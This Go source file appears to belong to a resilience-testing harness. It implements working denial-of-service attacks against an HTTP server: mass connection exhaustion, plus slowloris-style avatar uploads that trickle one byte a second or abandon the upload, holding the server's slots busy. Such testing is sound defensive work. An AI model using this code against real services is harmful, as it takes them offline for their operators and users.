package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"
)

const (
	// wantedConnections is more than a server keeps.
	wantedConnections    = 4200
	connectionsPerSecond = 2000
)

// takeConnections opens connections from one address, makes one small call on each, and stays.
func takeConnections(ctx context.Context, a *attacker) error {
	pace := newPacer(ctx, connectionsPerSecond)
	var tried atomic.Int64
	return spread(ctx, wantedConnections, func(int) {
		first := true
		for pace.next() {
			if first {
				first = false
				if tried.Add(1) == wantedConnections*19/20 {
					a.ready()
				}
			} else if !wait(ctx, time.Second) { // a caller that was turned away comes back
				return
			}
			a.toll.tries.Add(1)
			conn, err := a.dial(ctx, 0)
			if err != nil {
				continue
			}
			closed := context.AfterFunc(ctx, func() { _ = conn.Close() })
			_, err = io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: siege\r\n\r\n")
			if err == nil {
				_, _ = io.Copy(io.Discard, conn) // until the server ends it
			}
			closed()
			_ = conn.Close()
		}
	})
}

// spread runs many callers until all have returned.
func spread(ctx context.Context, n int, caller func(i int)) error {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { caller(i) })
	}
	all.Wait()
	return ctx.Err()
}

// startUpload sends the beginning of an upload of so many bytes.
func startUpload(conn net.Conn, token string, length int) error {
	const boundary = "siege"
	_, err := fmt.Fprintf(conn, "POST /assets/v1/users/me/avatar HTTP/1.1\r\nHost: siege\r\nAuthorization: Bearer %s\r\n"+
		"Content-Type: multipart/form-data; boundary=%s\r\nContent-Length: %d\r\n\r\n", token, boundary, length)
	if err != nil {
		return err
	}
	_, err = fmt.Fprintf(conn, "--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.png\"\r\n\r\n\x89PNG\r\n", boundary)
	return err
}

const (
	slowLength       = 200_000 // bytes that an upload promises
	ghostsAtFirst    = 4200    // more than a server keeps connections
	ghostsPerSecond  = 1500    // of those
	ghostsAfterwards = 400     // a second
	ghostAddresses   = 5
	uploadsOfEach    = 6 // more than have a place
)

// leaveUploads keeps the places of one account busy and lets uploads of the same account wait for them, whose clients are
// gone at once.
func leaveUploads(ctx context.Context, a *attacker) error {
	var all sync.WaitGroup
	for i := range uploadsOfEach {
		all.Go(func() { trickle(ctx, a, i, a.Accounts[0]) })
	}
	if !wait(ctx, 300*time.Millisecond) {
		return ctx.Err()
	}
	first, pace := newPacer(ctx, ghostsPerSecond), newPacer(ctx, ghostsAfterwards)
	var left atomic.Int64
	for i := range 64 {
		all.Go(func() {
			for {
				turns := first
				switch n := left.Add(1); {
				case n == ghostsAtFirst:
					a.ready()
				case n > ghostsAtFirst:
					turns = pace
				}
				if !turns.next() {
					return
				}
				a.toll.tries.Add(1)
				conn, err := a.dial(ctx, i%ghostAddresses)
				if err != nil {
					continue
				}
				_ = startUpload(conn, a.Accounts[0], slowLength)
				// Closed with what was sent still unread, as by a client that has what it wants or is switched off.
				_ = conn.Close()
			}
		})
	}
	all.Wait()
	return ctx.Err()
}

// trickle uploads a byte a second, again and again, from one address.
func trickle(ctx context.Context, a *attacker, from int, token string) {
	for ctx.Err() == nil {
		a.toll.tries.Add(1)
		if err := trickleOnce(ctx, a, from, token); err != nil && !wait(ctx, 200*time.Millisecond) {
			return
		}
	}
}

var errTurnedAway = errors.New("the server has answered")

func trickleOnce(ctx context.Context, a *attacker, from int, token string) error {
	conn, err := a.dial(ctx, from)
	if err != nil {
		return err
	}
	defer func() { _ = conn.Close() }()
	if err := startUpload(conn, token, slowLength); err != nil {
		return err
	}
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		_, _ = conn.Read(make([]byte, 1))
	}()
	for range slowLength {
		select {
		case <-answered:
			return errTurnedAway
		default:
		}
		if !wait(ctx, time.Second) {
			return ctx.Err()
		}
		if _, err := conn.Write([]byte{0}); err != nil {
			return err
		}
	}
	return nil
}
